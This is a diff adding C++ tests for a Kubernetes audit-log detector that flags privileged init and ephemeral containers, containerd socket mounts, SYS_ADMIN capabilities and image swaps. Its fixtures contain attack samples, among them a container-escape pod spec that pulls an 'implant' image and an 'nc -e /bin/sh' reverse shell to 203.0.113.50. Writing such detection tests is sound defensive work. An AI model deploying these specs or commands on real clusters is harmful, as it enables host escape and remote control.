@@ -584,6 +584,23 @@ TEST_CASE("RequestLevelRulesDecideOncePerRequestWithinTheBound", "[detections]")
     w.ns = "shop";
     CHECK(feed(d, w.str()).empty());
   }
+  // Nor do the watches and execs of people behind an impersonating proxy (Rancher, kube-oidc-
+  // proxy), which the impersonation rule looks at and does not report, nor a trusted
+  // identity's exec.
+  for (int i = 0; i < 50; ++i) {
+    Ev w;
+    w.auditID = "proxied-" + std::to_string(i);
+    w.stage = "ResponseStarted";
+    w.verb = "watch";
+    w.code = 200;
+    w.level = "Metadata";
+    w.uri = "/api/v1/namespaces/shop/pods?watch=true";
+    w.user = "system:serviceaccount:cattle-system:rancher";
+    w.impersonated = {{"username", "bob@example.com"}, {"groups", {"developers"}}};
+    w.resource = "pods";
+    w.ns = "shop";
+    CHECK(feed(d, w.str()).empty());
+  }
   CHECK(feed(d, exec("exec-1", "ResponseComplete")).empty());
   // Other execs do: the memory keeps the newest maxTrackedRequests requests.
   for (int i = 2; i <= 5; ++i) {
@@ -1595,6 +1612,387 @@ TEST_CASE("TrustedIdentitiesFollowAttribution", "[detections]") {
   up.responseObject = deployment("kube-system", "helper", "dep-h", "docker.io/library/alpine:3");
   CHECK(feed(d, up.str()).empty());
   CHECK(d.objects().find("dep-h")->actor == "alice@example.com");
+}
+
+}  // namespace
+}  // namespace kc::audit
+
+// Pod rules over every pod-carrying kind and every container list: initContainers, and
+// ephemeralContainers added through their subresource.
+namespace kc::audit {
+namespace {
+
+// The kinds that carry a pod spec, with the resource and API group the apiserver logs for them.
+struct PodCarryingKind {
+  std::string kind, resource, apiGroup;
+};
+const std::vector<PodCarryingKind> kPodCarryingKinds = {
+    {"Pod", "pods", ""},
+    {"Deployment", "deployments", "apps"},
+    {"ReplicaSet", "replicasets", "apps"},
+    {"StatefulSet", "statefulsets", "apps"},
+    {"DaemonSet", "daemonsets", "apps"},
+    {"Job", "jobs", "batch"},
+    {"CronJob", "cronjobs", "batch"},
+    {"ReplicationController", "replicationcontrollers", ""},
+    {"PodTemplate", "podtemplates", ""},
+};
+
+// A container as the apiserver returns it (defaults filled in), with `extra` merged in.
+json fullContainer(const std::string& name, const std::string& image, json extra = json::object()) {
+  json c = {{"name", name},
+            {"image", image},
+            {"resources", json::object()},
+            {"terminationMessagePath", "/dev/termination-log"},
+            {"terminationMessagePolicy", "File"},
+            {"imagePullPolicy", "IfNotPresent"}};
+  c.update(extra);
+  return c;
+}
+
+// A pod spec whose privileged init container reaches the node's containerd through its socket
+// mounted from the host, and whose app container adds SYS_ADMIN.
+json initEscapeSpec(const std::string& restartPolicy = "Always",
+                    const std::string& initImage = "docker.io/library/busybox:1.36") {
+  const json mount = {{"name", "containerd-sock"},
+                      {"mountPath", "/run/containerd/containerd.sock"}};
+  json init = fullContainer(
+      "init-setup", initImage,
+      {{"command", {"/bin/sh", "-c", "ctr -n k8s.io images pull docker.io/attacker/implant:1"}},
+       {"securityContext", {{"privileged", true}}},
+       {"volumeMounts", {mount}}});
+  json app = fullContainer("app", "registry.example.com/shop/web:1.4.2",
+                           {{"ports", {{{"containerPort", 8080}, {"protocol", "TCP"}}}},
+                            {"securityContext", {{"capabilities", {{"add", {"SYS_ADMIN"}}}}}}});
+  return {{"initContainers", {init}},
+          {"containers", {app}},
+          {"volumes",
+           {{{"name", "containerd-sock"},
+             {"hostPath", {{"path", "/var/run/containerd/containerd.sock"}, {"type", "Socket"}}}}}},
+          {"restartPolicy", restartPolicy},
+          {"terminationGracePeriodSeconds", 30},
+          {"dnsPolicy", "ClusterFirst"},
+          {"serviceAccountName", "default"},
+          {"securityContext", json::object()},
+          {"schedulerName", "default-scheduler"}};
+}
+
+// An object of kind `k` carrying `spec` as its pod spec, nested where that kind keeps it. As
+// submitted (`admitted` false: no uid, no server fields) or as admitted (responseObject).
+json podCarryingObject(const PodCarryingKind& k, const std::string& ns, const std::string& name,
+                       const std::string& uid, const json& spec, bool admitted) {
+  const std::string apiVersion = k.apiGroup.empty() ? "v1" : k.apiGroup + "/v1";
+  json md = {{"name", name}, {"namespace", ns}, {"labels", {{"app", name}}}};
+  if (admitted) {
+    md["uid"] = uid;
+    md["resourceVersion"] = "731904";
+    md["creationTimestamp"] = "2026-01-10T09:00:00Z";
+    if (k.kind != "Pod" && k.kind != "PodTemplate") md["generation"] = 1;
+  }
+  json labels = {{"app", name}};
+  if (k.kind == "Job" && admitted) {
+    labels["batch.kubernetes.io/controller-uid"] = uid;
+    labels["batch.kubernetes.io/job-name"] = name;
+  }
+  const json tmpl = {{"metadata", {{"labels", labels}}}, {"spec", spec}};
+  json o = {{"kind", k.kind}, {"apiVersion", apiVersion}, {"metadata", md}};
+  const json selector = {{"matchLabels", {{"app", name}}}};
+  if (k.kind == "Pod") {
+    o["spec"] = spec;
+    if (admitted) o["status"] = {{"phase", "Pending"}, {"qosClass", "BestEffort"}};
+  } else if (k.kind == "PodTemplate") {
+    o["template"] = tmpl;
+  } else if (k.kind == "CronJob") {
+    o["spec"] = {{"schedule", "*/10 * * * *"},
+                 {"concurrencyPolicy", "Allow"},
+                 {"suspend", false},
+                 {"jobTemplate", {{"metadata", json::object()}, {"spec", {{"template", tmpl}}}}}};
+  } else if (k.kind == "Job") {
+    o["spec"] = {{"backoffLimit", 6}, {"completions", 1}, {"parallelism", 1}, {"template", tmpl}};
+    if (admitted) {
+      o["spec"]["selector"] = {{"matchLabels", {{"batch.kubernetes.io/controller-uid", uid}}}};
+    }
+  } else if (k.kind == "ReplicationController") {
+    o["spec"] = {{"replicas", 1}, {"selector", {{"app", name}}}, {"template", tmpl}};
+  } else {
+    o["spec"] = {{"selector", selector}, {"template", tmpl}};
+    if (k.kind != "DaemonSet") o["spec"]["replicas"] = 1;
+    if (k.kind == "StatefulSet") o["spec"]["serviceName"] = name;
+    if (k.kind == "Deployment") o["spec"]["strategy"] = {{"type", "RollingUpdate"}};
+    if (k.kind == "DaemonSet") o["spec"]["updateStrategy"] = {{"type", "RollingUpdate"}};
+  }
+  if (admitted && k.kind != "PodTemplate") o["status"] = o.value("status", json::object());
+  return o;
+}
+
+// `user` creates an object of kind `k` (the create event, as the apiserver logs it).
+Ev createEvent(const PodCarryingKind& k, const std::string& ns, const std::string& name,
+               const std::string& uid, const json& spec, const std::string& user) {
+  Ev e;
+  e.auditID = "a-create-" + k.resource;
+  e.uri = (k.apiGroup.empty() ? "/api/v1" : "/apis/" + k.apiGroup + "/v1") + "/namespaces/" + ns +
+          "/" + k.resource + "?fieldManager=kubectl-create&fieldValidation=Strict";
+  e.user = user;
+  e.resource = k.resource;
+  e.apiGroup = k.apiGroup;
+  e.ns = ns;
+  e.name = name;
+  e.requestObject = podCarryingObject(k, ns, name, uid, spec, false);
+  e.responseObject = podCarryingObject(k, ns, name, uid, spec, true);
+  return e;
+}
+
+TEST_CASE("PrivilegedInitContainerIsJudgedInEveryPodCarryingKind", "[detections]") {
+  for (const auto& k : kPodCarryingKinds) {
+    INFO(k.kind);
+    Detector d(DetectorOptions{});
+    const std::string name = "web-" + k.resource.substr(0, k.resource.size() - 1);
+    const std::string uid = "uid-" + k.resource;
+    const std::string restart = k.kind == "Job" || k.kind == "CronJob" ? "OnFailure" : "Always";
+    const Ev e = createEvent(k, "shop", name, uid, initEscapeSpec(restart), "mallory@example.com");
+    const auto fs = feed(d, e.str());
+
+    std::vector<std::string> want = {"privileged-container", "sensitive-host-path",
+                                     "dangerous-capability"};
+    if (k.kind == "DaemonSet") want.push_back("daemonset-created");
+    if (k.kind == "CronJob") want.push_back("cronjob-created");
+    CHECK(rules(fs) == want);
+    for (const auto& f : fs) {
+      INFO(f.rule);
+      CHECK(f.kind == k.kind);
+      CHECK(f.resource == k.resource);
+      CHECK(f.namespace_ == "shop");
+      CHECK(f.name == name);
+      CHECK(f.user == "mallory@example.com");
+      CHECK(f.requestUser.empty());
+      CHECK(f.auditID == "a-create-" + k.resource);
+      CHECK(f.verb == "create");
+      CHECK(f.images == std::vector<std::string>{"docker.io/library/busybox:1.36",
+                                                 "registry.example.com/shop/web:1.4.2"});
+    }
+
+    const Finding* priv = rule(fs, "privileged-container");
+    REQUIRE(priv != nullptr);
+    CHECK(priv->containers == std::vector<std::string>{"init-setup"});  // not the app container
+    CHECK(priv->severity == Severity::kHigh);
+    CHECK(priv->technique == "T1611");
+    CHECK(priv->details.at("what") == "init-setup");
+    CHECK(priv->summary == k.kind + " shop/" + name + " runs privileged container(s): init-setup");
+
+    const Finding* hp = rule(fs, "sensitive-host-path");
+    REQUIRE(hp != nullptr);
+    CHECK(hp->severity == Severity::kCritical);
+    CHECK(hp->details.at("what") == "/var/run/containerd/containerd.sock");
+    CHECK(hp->containers.empty());
+
+    const Finding* cap = rule(fs, "dangerous-capability");
+    REQUIRE(cap != nullptr);
+    CHECK(cap->severity == Severity::kCritical);
+    CHECK(cap->containers == std::vector<std::string>{"app"});
+    CHECK(cap->details.at("what") == "app +SYS_ADMIN");
+
+    // The JSON sent out names the init container and the object.
+    const json j = toJson(*priv);
+    CHECK(j["container"] == "init-setup");
+    CHECK(j["kind"] == k.kind);
+    CHECK(j["name"] == name);
+    CHECK(j["namespace"] == "shop");
+
+    // The object is remembered: the same spec admitted again (an update by the same person) is
+    // not reported again.
+    Ev u = e;
+    u.auditID = "a-update-" + k.resource;
+    u.verb = "update";
+    u.code = 200;
+    u.requestObject = u.responseObject;
+    CHECK(rules(feed(d, u.str())).empty());
+  }
+}
+
+// The admission policies re-applied to the same objects: pod-security-baseline enforces on
+// pods, and its violation names the init container.
+TEST_CASE("PolicyViolationOfAPrivilegedInitContainerNamesIt", "[detections]") {
+  DetectorOptions o;
+  o.policies = defaultPolicies;
+  Detector d(o);
+  const PodCarryingKind& k = kPodCarryingKinds[0];
+  REQUIRE(k.kind == "Pod");
+  const auto fs = feed(
+      d,
+      createEvent(k, "shop", "web-pod", "uid-pv", initEscapeSpec(), "mallory@example.com").str());
+  const Finding* pv = rule(fs, "policy-violation");
+  REQUIRE(pv != nullptr);
+  CHECK(pv->severity == Severity::kHigh);
+  CHECK(pv->kind == "Pod");
+  CHECK(pv->name == "web-pod");
+  CHECK(pv->details.at("rules").find("pss.privileged") != std::string::npos);
+  CHECK(pv->details.at("rules").find("pss.hostPathVolumes") != std::string::npos);
+  CHECK(pv->details.at("rules").find("pss.capabilities") != std::string::npos);
+  bool initNamed = false;
+  for (const auto& v : pv->violations) {
+    if (v.find("pss.privileged (init-setup)") != std::string::npos) initNamed = true;
+  }
+  CHECK(initNamed);
+  CHECK(std::find(pv->containers.begin(), pv->containers.end(), "init-setup") !=
+        pv->containers.end());
+}
+
+// A Deployment's init container image swapped (or its command changed) by an identity that
+// never changed the Deployment: the workload's code changed as surely as through `containers`.
+TEST_CASE("InitContainerImageChangedByANewIdentity", "[detections]") {
+  const PodCarryingKind& k = kPodCarryingKinds[1];
+  REQUIRE(k.kind == "Deployment");
+  const std::string ci = "system:serviceaccount:ci:deployer";
+  auto spec = [](const std::string& initImage, json initCommand = nullptr) {
+    json init = fullContainer("migrate", initImage);
+    if (!initCommand.is_null()) init["command"] = initCommand;
+    return podTemplateSpec("registry.example.com/shop/web:1.4.2", {{"initContainers", {init}}});
+  };
+  auto dep = [&](const json& s) {
+    return podCarryingObject(k, "shop", "web", "dep-init", s, true);
+  };
+  Detector d(DetectorOptions{});
+  Ev c;
+  c.auditID = "a-create";
+  c.uri = "/apis/apps/v1/namespaces/shop/deployments";
+  c.user = ci;
+  c.resource = "deployments";
+  c.apiGroup = "apps";
+  c.ns = "shop";
+  c.name = "web";
+  c.requestObject =
+      podCarryingObject(k, "shop", "web", "", spec("registry.example.com/shop/migrate:1.0"), false);
+  c.responseObject = dep(spec("registry.example.com/shop/migrate:1.0"));
+  c.time = at(1);
+  CHECK(feed(d, c.str()).empty());
+
+  // The pipeline that created it releases a new init image: expected.
+  Ev up = c;
+  up.auditID = "a-up-ci";
+  up.verb = "update";
+  up.code = 200;
+  up.uri = "/apis/apps/v1/namespaces/shop/deployments/web";
+  up.requestObject = dep(spec("registry.example.com/shop/migrate:1.1"));
+  up.responseObject = up.requestObject;
+  up.time = at(2);
+  CHECK(feed(d, up.str()).empty());
+
+  Ev evil = up;
+  evil.auditID = "a-evil";
+  evil.user = "mallory@example.com";
+  evil.time = at(3);
+  SECTION("patch") {
+    evil.verb = "patch";
+    evil.uri += "?fieldManager=kubectl-patch";
+    evil.requestObject = {
+        {"spec",
+         {{"template",
+           {{"spec",
+             {{"$setElementOrder/initContainers", {{{"name", "migrate"}}}},
+              {"initContainers",
+               {{{"name", "migrate"}, {"image", "docker.io/attacker/migrate:1"}}}}}}}}}}};
+  }
+  SECTION("update") { evil.requestObject = dep(spec("docker.io/attacker/migrate:1")); }
+  evil.responseObject = dep(spec("docker.io/attacker/migrate:1"));
+  auto fs = feed(d, evil.str());
+  REQUIRE(rules(fs) == std::vector<std::string>{"workload-image-changed"});
+  const Finding& f = fs[0];
+  CHECK(f.severity == Severity::kHigh);
+  CHECK(f.technique == "T1491.001");
+  CHECK(f.user == "mallory@example.com");
+  CHECK(f.kind == "Deployment");
+  CHECK(f.namespace_ == "shop");
+  CHECK(f.name == "web");
+  CHECK(f.verb == evil.verb);
+  CHECK(f.details.at("change") ==
+        "init:migrate: registry.example.com/shop/migrate:1.1 -> docker.io/attacker/migrate:1");
+  CHECK(f.details.at("oldImages") == "registry.example.com/shop/migrate:1.1");
+  CHECK(f.details.at("newImages") == "docker.io/attacker/migrate:1");
+  CHECK(f.details.at("previousChangers") == ci);
+  // The changed container only, by its own name (not the unchanged app container).
+  CHECK(f.containers == std::vector<std::string>{"migrate"});
+
+  // A command change of the init container by yet another identity counts too.
+  Ev cmd = up;
+  cmd.auditID = "a-cmd";
+  cmd.user = "eve@example.com";
+  cmd.requestObject = dep(
+      spec("docker.io/attacker/migrate:1", {"/bin/sh", "-c", "nc -e /bin/sh 203.0.113.50 4444"}));
+  cmd.responseObject = cmd.requestObject;
+  cmd.time = at(4);
+  fs = feed(d, cmd.str());
+  REQUIRE(rules(fs) == std::vector<std::string>{"workload-image-changed"});
+  CHECK(fs[0].details.at("change") == "init:migrate: command changed");
+  CHECK(fs[0].user == "eve@example.com");
+  CHECK(fs[0].details.count("oldImages") == 0);
+}
+
+// `kubectl debug` adds a privileged ephemeral container through pods/ephemeralcontainers: the
+// ephemeral-container and privileged-container findings name it, and nothing else of the pod
+// (its privileged init container, its SYS_ADMIN app container, its host path) is judged again,
+// whether the detector saw the pod's creation or not.
+TEST_CASE("PrivilegedEphemeralContainerIsJudgedAlone", "[detections]") {
+  const PodCarryingKind& k = kPodCarryingKinds[0];
+  REQUIRE(k.kind == "Pod");
+  const json created =
+      podCarryingObject(k, "shop", "web-7d4b9c-x2k8p", "uid-eph", initEscapeSpec(), true);
+  json withDebug = created;
+  withDebug["metadata"]["resourceVersion"] = "731977";
+  withDebug["spec"]["ephemeralContainers"] = {
+      fullContainer("debugger-8hx2q", "docker.io/nicolaka/netshoot:v0.13",
+                    {{"targetContainerName", "app"},
+                     {"stdin", true},
+                     {"tty", true},
+                     {"securityContext", {{"privileged", true}}}})};
+
+  Ev eph;
+  eph.auditID = "a-eph";
+  eph.code = 200;
+  eph.uri = "/api/v1/namespaces/shop/pods/web-7d4b9c-x2k8p/ephemeralcontainers";
+  eph.user = "bob@example.com";
+  eph.resource = "pods";
+  eph.subresource = "ephemeralcontainers";
+  eph.ns = "shop";
+  eph.name = "web-7d4b9c-x2k8p";
+  SECTION("patch") {  // kubectl debug
+    eph.verb = "patch";
+    eph.requestObject = {
+        {"spec", {{"ephemeralContainers", withDebug["spec"]["ephemeralContainers"]}}}};
+  }
+  SECTION("update") {
+    eph.verb = "update";
+    eph.requestObject = withDebug;
+  }
+  eph.responseObject = withDebug;
+
+  auto check = [&](const std::vector<Finding>& fs) {
+    REQUIRE(rules(fs) == std::vector<std::string>{"ephemeral-container", "privileged-container"});
+    for (const auto& f : fs) {
+      INFO(f.rule);
+      CHECK(f.containers == std::vector<std::string>{"debugger-8hx2q"});
+      CHECK(f.kind == "Pod");
+      CHECK(f.namespace_ == "shop");
+      CHECK(f.name == "web-7d4b9c-x2k8p");
+      CHECK(f.subresource == "ephemeralcontainers");
+      CHECK(f.user == "bob@example.com");
+      CHECK(f.severity == Severity::kHigh);
+    }
+    CHECK(fs[0].details.at("what") == "debugger-8hx2q (docker.io/nicolaka/netshoot:v0.13)");
+    CHECK(fs[1].details.at("what") == "debugger-8hx2q");
+  };
+  {
+    INFO("creation seen");
+    Detector d(DetectorOptions{});
+    Ev c = createEvent(k, "shop", "web-7d4b9c-x2k8p", "uid-eph", initEscapeSpec(),
+                       "system:serviceaccount:kube-system:replicaset-controller");
+    CHECK(rule(feed(d, c.str()), "privileged-container") != nullptr);
+    check(feed(d, eph.str()));
+  }
+  {
+    INFO("creation not seen");
+    Detector d(DetectorOptions{});
+    check(feed(d, eph.str()));
+  }
 }
 
 }  // namespace
